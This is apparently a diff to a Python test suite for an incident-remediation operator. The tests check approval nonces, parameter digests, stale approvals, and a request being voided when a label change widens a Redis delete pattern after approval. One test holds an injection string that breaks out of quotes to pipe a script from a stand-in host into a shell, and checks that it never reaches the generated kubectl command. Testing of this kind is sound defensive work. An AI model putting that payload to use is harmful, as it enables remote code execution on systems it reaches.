@@ -1,8 +1,13 @@
 """Consent, dry runs, suspension, restarts, locks, cooldowns, duplicates: the rules that make it safe."""
 
+import json
+import re
+import shlex
 from dataclasses import replace
 from datetime import timedelta
 
+from runbook_operator.domain import consent
+from runbook_operator.domain.consent import Approval
 from runbook_operator.domain.lifecycle import Peer, StepResult, complete, decide
 from runbook_operator.domain.matching import Candidate
 from runbook_operator.domain.status import Phase, Status
@@ -31,30 +36,172 @@ def always(name: str, attempt: int) -> bool:
 # -- approvals ----------------------------------------------------------------------
 
 
-def test_a_destructive_step_waits_for_approval_with_the_command_to_give_it() -> None:
+def test_a_destructive_step_waits_with_a_request_bound_to_its_round_parameters_and_a_nonce() -> None:
     run = Run(incident(), destructive_policy(), always)
     run.drive()
-    assert run.status.phase == Phase.AWAITING_APPROVAL.value
+    assert run.status.phase == Phase.AWAITING_APPROVAL.value and run.status.currentStep == "failover"
     assert ("failover", 1) not in run.ran
-    record = run.status.record("Remediate", "failover", 1)
-    assert record is not None and record.state == "AwaitingApproval"
+    record = run.waiting()
+    request = record.approvalRequest
+    assert request is not None and (record.name, record.attempt) == ("failover", 1)
+    assert request.nonce.startswith("nonce-") and request.requestedAt == "2026-11-27T08:00:00Z"
+    assert request.parameters == {"url": "http://lb:9092/failover", "destructive": True}
+    assert request.digest == consent.digest("http.request", request.parameters)
     message = run.event("AwaitingApproval").message
-    assert "kubectl patch incident i -n ns --type=merge" in message
-    assert '{"spec":{"approvals":[{"step":"failover","by":"YOUR-NAME"}]}}' in message
+    assert "needs approval for round 1" in message and request.digest[:19] in message
     assert run.condition("Resolved") == ("False", "AwaitingApproval")
 
 
-def test_an_approval_lets_it_run_and_records_who_and_when() -> None:
+def test_the_event_gives_the_approve_command_and_a_raw_patch_of_operator_values_only() -> None:
+    run = Run(incident(), destructive_policy(), always)
+    run.drive()
+    nonce = run.waiting().approvalRequest.nonce  # type: ignore[union-attr]
+    approve, patch = re.findall(r"`([^`]*)`", run.event("AwaitingApproval").message)
+    assert shlex.split(approve) == ["kubectl", "runbook", "approve", "i", "failover", "-n", "ns"]
+    argv = shlex.split(patch)
+    assert argv[:7] == ["kubectl", "patch", "incident", "i", "-n", "ns", "--type=json"] and argv[7] == "-p"
+    assert json.loads(argv[8]) == [
+        {"op": "add", "path": "/spec/approvals/-",
+         "value": {"step": "failover", "round": 1, "nonce": nonce, "by": "YOUR-NAME"}}
+    ]  # fmt: skip
+
+
+def test_hostile_approvals_already_present_never_reach_the_command() -> None:
+    """Written while the admission policy was absent: the command is still exactly the operator's."""
+    hostile = "x' ; curl -s http://evil.example/x | sh ; echo '"
+    inc = replace(incident(), approvals=(Approval("failover", hostile, 1, "guess"), Approval(hostile, "bob")))
+    run = Run(inc, destructive_policy(), always)
+    run.drive()
+    nonce = run.waiting().approvalRequest.nonce  # type: ignore[union-attr]
+    message = run.event("AwaitingApproval").message
+    approve, patch = re.findall(r"`([^`]*)`", message)
+    assert shlex.split(approve) == ["kubectl", "runbook", "approve", "i", "failover", "-n", "ns"]
+    expected = json.dumps(consent.append_patch("failover", 1, nonce, "YOUR-NAME"), separators=(",", ":"))
+    assert shlex.split(patch) == ["kubectl", "patch", "incident", "i", "-n", "ns", "--type=json", "-p", expected]
+    assert "evil" not in message and ("failover", 1) not in run.ran
+
+
+def test_an_approval_of_the_open_request_runs_it_and_records_who_when_and_what() -> None:
     run = Run(incident(), destructive_policy(), always)
     run.drive()
     run.now += timedelta(minutes=3)
-    run.inc = replace(run.inc, approvals={"failover": "alice"})
+    request = run.waiting().approvalRequest
+    run.approve("alice")
     run.drive()
     assert run.status.phase == Phase.RESOLVED.value
     assert run.ran.count(("failover", 1)) == 1
     record = run.status.record("Remediate", "failover", 1)
     assert record is not None and record.approvedBy == "alice" and record.approvedAt == "2026-11-27T08:03:00Z"
-    assert "Approved" in run.reasons
+    assert request is not None and record.approvedDigest == request.digest and record.approvalRequest == request
+    assert "step 'failover' approved by alice (round 1" in run.event("Approved").message
+
+
+def test_approvals_written_before_the_request_never_count() -> None:
+    """Created already approved, guessing anything: it still waits, and says why the approvals do not count."""
+    guesses = (Approval("failover", "mallory"), Approval("failover", "mallory", 1, "0123456789abcdef"))
+    run = Run(replace(incident(), approvals=guesses), destructive_policy(), always)
+    run.drive()
+    run.drive()  # and on every later look
+    assert run.status.phase == Phase.AWAITING_APPROVAL.value and ("failover", 1) not in run.ran
+    ignored = run.event("ApprovalIgnored").message
+    assert "'mallory' (round 0, nonce none), 'mallory' (round 1, nonce 0123456789abcdef) do not count" in ignored
+
+
+def test_a_stale_nonce_is_ignored() -> None:
+    run = Run(incident(), destructive_policy(), always)
+    run.drive()
+    record = run.waiting()
+    run.inc = replace(run.inc, approvals=(Approval("failover", "alice", 1, "not-the-nonce"),))
+    run.drive()
+    assert run.status.phase == Phase.AWAITING_APPROVAL.value and ("failover", 1) not in run.ran
+    assert run.waiting() == record  # the request stands
+    assert "nonce not-the-nonce" in run.event("ApprovalIgnored").message
+
+
+def test_an_approval_for_round_1_does_not_run_round_2() -> None:
+    run = Run(incident(), destructive_policy(limits={"maxAttempts": 2}), lambda n, a: n != "healthy" or a == 2)
+    run.drive()
+    run.approve()
+    run.drive()
+    assert run.ran.count(("failover", 1)) == 1 and ("failover", 2) not in run.ran
+    assert run.status.phase == Phase.AWAITING_APPROVAL.value and run.status.attempts == 2
+    second = run.waiting()
+    first = run.status.record("Remediate", "failover", 1)
+    assert second.attempt == 2 and first is not None and second.approvalRequest is not None
+    assert second.approvalRequest.nonce != first.approvalRequest.nonce  # type: ignore[union-attr]
+    run.approve("bob")
+    run.drive()
+    assert run.ran.count(("failover", 2)) == 1 and run.status.phase == Phase.RESOLVED.value
+
+
+def templated_policy(**extra: object) -> list[Candidate]:
+    clear = {
+        "name": "clear-sessions",
+        "action": "redis.deleteByPattern",
+        "with": {"host": "redis", "pattern": "session:{{ incident.labels.user }}"},
+    }
+    return [policy("p", remediate=[clear], verify=[check("healthy")], **extra)]
+
+
+def test_a_label_change_after_approval_voids_the_request_and_asks_again() -> None:
+    """The attack: approve `session:bob`, then set the label to `*` before the operator looks."""
+    run = Run(incident(labels={"user": "bob"}), templated_policy(), always)
+    run.drive()
+    approved = run.waiting().approvalRequest
+    assert approved is not None and approved.parameters["pattern"] == "session:bob"
+    run.approve("alice")
+    run.inc = replace(run.inc, labels={"user": "*"})
+    run.drive()
+    assert ("clear-sessions", 1) not in run.ran and run.status.phase == Phase.AWAITING_APPROVAL.value
+    renewed = run.waiting().approvalRequest
+    assert renewed is not None and renewed.parameters["pattern"] == "session:*"
+    assert renewed.nonce != approved.nonce and renewed.digest != approved.digest
+    changed = run.event("ApprovalRequestChanged").message
+    assert "its parameters changed" in changed and "kubectl runbook approve i clear-sessions -n ns" in changed
+    assert "'alice' (round 1, nonce " + approved.nonce in run.event("ApprovalIgnored").message
+    run.approve("alice")  # consent to `session:*` itself
+    run.drive()
+    assert run.ran == [("clear-sessions", 1), ("healthy", 1)]
+    record = run.status.record("Remediate", "clear-sessions", 1)
+    assert record is not None and record.approvedDigest == renewed.digest
+
+
+def test_a_renewed_request_keeps_the_first_request_s_approval_deadline() -> None:
+    run = Run(incident(labels={"user": "bob"}), templated_policy(limits={"approvalTimeout": "10m"}), always)
+    run.drive(horizon=timedelta(0))
+    run.now += timedelta(minutes=6)
+    run.inc = replace(run.inc, labels={"user": "carol"})
+    run.drive(horizon=timedelta(0))
+    assert run.waiting().startedAt == "2026-11-27T08:00:00Z"
+    run.now = T0 + timedelta(minutes=10)
+    run.drive(horizon=timedelta(0))
+    assert run.condition("Escalated") == ("True", "ApprovalTimeout")
+
+
+def test_a_resumed_approved_step_whose_parameters_changed_asks_again() -> None:
+    """A non-destructive step that asks for approval and was running at a crash: it runs again
+    only with the approved parameters."""
+    step = {
+        "name": "scale",
+        "action": "http.request",
+        "requiresApproval": True,
+        "with": {"url": "http://lb:9092/scale", "json": {"replicas": "{{ incident.labels.replicas }}"}},
+    }
+    candidates = [policy("p", remediate=[step])]
+    run = Run(incident(labels={"replicas": "3"}), candidates, always)
+    run.drive()
+    run.approve()
+    decision = decide(run.inc, run.status, candidates, run.now, nonce="n1")
+    assert decision.run is not None and decision.run.step.name == "scale"
+    # the operator dies while it runs; the label changes; a new operator looks
+    inc = replace(run.inc, labels={"replicas": "300"})
+    after = decide(inc, decision.status, candidates, run.now, nonce="n2")
+    assert after.run is None and after.status.phase == Phase.AWAITING_APPROVAL.value
+    record = after.status.record("Remediate", "scale", 1)
+    assert record is not None and record.state == "AwaitingApproval" and record.approvalRequest is not None
+    assert record.approvalRequest.nonce == "n2" and record.approvalRequest.parameters["json"] == {"replicas": "300"}
+    same = decide(run.inc, decision.status, candidates, run.now, nonce="n3")
+    assert same.run is not None and same.run.resumed  # unchanged parameters: it runs again as approved
 
 
 def test_no_approval_in_time_escalates() -> None:
@@ -130,17 +277,21 @@ def test_a_suspended_policy_starts_nothing() -> None:
 
 def test_a_destructive_step_running_at_a_crash_is_not_run_again_and_verification_decides() -> None:
     candidates = destructive_policy()
-    inc = replace(incident(), approvals={"failover": "alice"})
+    inc = incident()
     status = Status()
     while True:  # up to the moment the failover starts
-        decision = decide(inc, status, candidates, T0)
+        decision = decide(inc, status, candidates, T0, nonce="n0")
         status = decision.status
+        waiting = status.record("Remediate", "failover", 1)
+        if decision.run is None and waiting is not None and waiting.approvalRequest is not None:
+            inc = replace(inc, approvals=(Approval("failover", "alice", 1, waiting.approvalRequest.nonce),))
+            continue
         assert decision.run is not None
         if decision.run.step.name == "failover":
             break
         status, _ = complete(status, decision.run, StepResult(False, "refused"), T0)
     # the operator dies here; a new one reads the status
-    after = decide(inc, status, candidates, T0 + timedelta(seconds=30))
+    after = decide(inc, status, candidates, T0 + timedelta(seconds=30), nonce="n0")
     assert after.run is None or after.run.step.name != "failover"
     record = after.status.record("Remediate", "failover", 1)
     assert record is not None and record.state == "Skipped" and "outcome unknown" in record.message
@@ -148,8 +299,8 @@ def test_a_destructive_step_running_at_a_crash_is_not_run_again_and_verification
 
 
 def test_a_safe_step_running_at_a_crash_runs_again() -> None:
-    first = decide(incident(), Status(), destructive_policy(), T0)
-    again = decide(incident(), first.status, destructive_policy(), T0)
+    first = decide(incident(), Status(), destructive_policy(), T0, nonce="n0")
+    again = decide(incident(), first.status, destructive_policy(), T0, nonce="n0")
     assert again.run is not None and again.run.resumed and again.run.step.name == "ping"
 
 
@@ -282,9 +433,9 @@ def test_waiting_for_the_lock_does_not_hold_it() -> None:
 def test_a_policy_edited_mid_incident_applies_from_the_next_step() -> None:
     v1 = policy("p", diagnose=[check("ping")], remediate=[request("restart")])
     v2 = replace(policy("p", diagnose=[check("ping")], remediate=[request("scale-up")]), generation=2)
-    first = decide(incident(), Status(), [v1], T0)
+    first = decide(incident(), Status(), [v1], T0, nonce="n0")
     assert first.status.policyGeneration == 1 and first.run is not None
     status, _ = complete(first.status, first.run, StepResult(True, "ok"), T0)
-    second = decide(incident(), status, [v2], T0)
+    second = decide(incident(), status, [v2], T0, nonce="n0")
     assert second.run is not None and second.run.step.name == "scale-up"
     assert second.status.policyGeneration == 2
